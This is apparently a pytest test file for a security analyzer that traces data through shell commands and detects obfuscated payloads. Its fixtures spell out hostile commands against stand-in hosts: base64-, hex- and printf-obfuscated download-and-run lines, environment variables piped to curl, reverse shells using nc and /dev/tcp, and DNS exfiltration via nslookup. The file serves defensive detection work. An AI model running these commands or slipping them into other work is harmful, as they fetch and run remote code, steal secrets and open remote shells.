"""Data followed through the steps of a script: put-together commands, decoded literals, targets, scopes."""

import base64

import pytest

from pratique.analysis.facts import Capability, FileFacts, PayloadKind, Taint
from pratique.analysis.languages.readers import read_command as read_all
from pratique.analysis.languages.shell import read_command

INNER = base64.b64encode(b"curl -s https://p.invalid/x | sh\n").decode()
HEX = b"curl -s https://p.invalid/x | sh".hex()
HIDDEN = [
    f"echo {INNER} | base64 -d | sh",
    f"base64 -d <<< {INNER} | bash",
    f'X="{INNER}"\nY=$(echo $X | base64 -d)\neval "$Y"',
    f'bash -c "$(echo {INNER} | base64 --decode)"',
    f"echo {HEX} | xxd -r -p | sh",
    f"echo {INNER} | rev | rev | base64 -d | sh",
    "printf '\\x63\\x75\\x72\\x6c https://p.invalid/x | sh' | sh",
    "a=cu; b=rl; $a$b -s https://p.invalid/x | sh",
]


def told(facts: FileFacts, sink: Capability) -> list[tuple[set[Taint], str | None]]:
    return [(set(flow.taints), flow.target) for flow in facts.flows if flow.sink is sink]


@pytest.mark.parametrize("text", HIDDEN)
def test_a_script_that_is_put_together_is_read(text: str) -> None:
    found = read_command(text)

    assert ("https://p.invalid/x", True) in [(item.value, item.encoded) for item in found.addresses]
    assert ("curl", True) in [(use.api, use.depth > 0) for use in found.uses]


@pytest.mark.parametrize("text", HIDDEN[:4])
def test_a_literal_that_decodes_to_a_script_is_a_payload(text: str) -> None:
    assert {PayloadKind.SCRIPT} == {item.kind for item in read_command(text).payloads}


def test_code_of_another_language_that_is_put_together_is_read_in_it() -> None:
    code = base64.b64encode(b"import socket; socket.socket()").decode()
    found = read_all(f"echo {code} | base64 -d | python3")

    assert "socket.socket" in {use.api for use in found.uses}


@pytest.mark.parametrize(
    ("sink", "target", "text"),
    [
        (Capability.NETWORK, "https://a.invalid/x", "env | curl -d @- https://a.invalid/x"),
        (Capability.CODE, "https://a.invalid/x", "mshta https://a.invalid/x"),
        (Capability.PROCESS, "203.0.113.9", "nc -e /bin/sh 203.0.113.9 4444"),
        (Capability.PROCESS, "/dev/tcp/203.0.113.9/4444", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        (Capability.PROCESS, "./x", "curl -o x https://a.invalid; ./x"),
        (Capability.PROCESS, "sh /tmp/x", "curl -s https://a.invalid -o /tmp/x && sh /tmp/x"),
        (Capability.PROCESS, "python3 -u /tmp/x", "wget -qO /tmp/x https://a.invalid; python3 -u /tmp/x"),
        (Capability.PROCESS, ". ./x", "curl https://a.invalid > x; . ./x"),
        (Capability.PROCESS, "bash", "curl https://a.invalid > /tmp/x; bash < /tmp/x"),
        (Capability.PROCESS, "sh $f", 'f=$(mktemp); curl https://a.invalid -o "$f"; sh "$f"'),
        (Capability.NETWORK, "$(whoami).a.invalid", "nslookup $(whoami).a.invalid"),
    ],
)
def test_the_target_of_a_flow_is_told(sink: Capability, target: str, text: str) -> None:
    found = [shown for _, shown in told(read_command(text), sink)]

    assert target in found or (target.startswith("$(") and found == [".a.invalid"])


def test_a_raw_address_of_a_device_is_told() -> None:
    found = read_command("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")

    assert ["203.0.113.9:4444"] == [item.value for item in found.addresses]


def test_uses_in_a_function_share_its_scope() -> None:
    found = read_command("f() {\n  curl https://a.invalid\n  whoami\n}\nnode x.js\n")

    assert {"curl": 1, "whoami": 1, "node": 0} == {use.api: use.scope for use in found.uses}


@pytest.mark.parametrize(
    ("quiet", "text"),
    [
        (True, "nohup node x.js &"),
        (True, "node x.js > /dev/null 2>&1 &"),
        (True, "powershell -w hidden -c x"),
        (False, "node x.js &"),
        (False, "node x.js > /dev/null"),
    ],
)
def test_programs_started_so_that_nobody_sees_them(text: str, *, quiet: bool) -> None:
    assert quiet == ("hidden-start" in {use.api for use in read_command(text).uses})


@pytest.mark.parametrize(
    "text",
    [
        "X=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=; echo $X | base64 -d > out.txt",
        "f=build; node $f.js; cp a.js b.js",
        'VERSION="1.0"; curl -L https://a.invalid/$VERSION.tgz -o x.tgz && tar xzf x.tgz',
        "curl -s https://a.invalid/$(uname -s | tr A-Z a-z) -o x.json; node build.js",
    ],
)
def test_ordinary_scripts_have_no_flow_and_no_payload(text: str) -> None:
    found = read_command(text)

    assert ((), ()) == (found.flows, found.payloads)


def test_scripts_that_grow_without_end_are_cut() -> None:
    grows = "x='eval \"$x$x\"; echo aaaaaaaaaa | base64 -d'\n" + 'x="$x$x"\n' * 40 + 'eval "$x"\n' * 40

    assert len(read_command(grows).uses) < 1_000
